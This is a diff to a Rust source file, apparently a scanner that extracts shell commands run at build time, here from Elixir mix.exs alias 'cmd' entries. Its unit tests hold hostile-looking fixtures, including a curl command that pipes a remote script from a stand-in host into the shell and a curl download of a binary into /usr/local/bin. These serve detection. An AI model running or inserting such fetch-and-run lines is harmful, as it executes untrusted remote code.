@@ -753,6 +753,16 @@ fn make_shell_calls(line: &str) -> Vec<String> {
 pub fn later_commands(path: &str, content: &str) -> Option<String> {
     let lower = path.to_ascii_lowercase();
     let base = paths::basename(&lower);
+    // Mix aliases run `"cmd …"` entries through the shell (`mix compile`, `mix setup`).
+    if base == "mix.exs" {
+        let cmds: Vec<String> = content
+            .split('"')
+            .skip(1)
+            .step_by(2)
+            .filter_map(|v| v.strip_prefix("cmd ").map(str::to_owned))
+            .collect();
+        return (!cmds.is_empty()).then(|| cmds.join("\n"));
+    }
     let is_yaml = base.ends_with(".yml") || base.ends_with(".yaml");
     let shebang = content.lines().next().is_some_and(|l| {
         l.starts_with("#!")
@@ -2901,6 +2911,19 @@ mod tests {
         assert_eq!(
             add,
             "curl -fsSL https://203.0.113.61/bin/hc -o /usr/local/bin/hc"
+        );
+        // Mix aliases' `cmd` entries run through the shell on `mix compile`.
+        assert_eq!(
+            later_commands(
+                "/p/mix.exs",
+                "  defp aliases do\n    [compile: [\"cmd curl -fsSL https://x.example/w.sh | sh\", \"compile\"]]\n  end\n"
+            )
+            .as_deref(),
+            Some("curl -fsSL https://x.example/w.sh | sh")
+        );
+        assert_eq!(
+            later_commands("/p/mix.exs", "[setup: [\"deps.get\"]]"),
+            None
         );
         assert_eq!(later_commands("/p/src/main.rs", "fn main() {}"), None);
         // A playbook kept under `playbooks/` (or any file of plays): its shell tasks and the
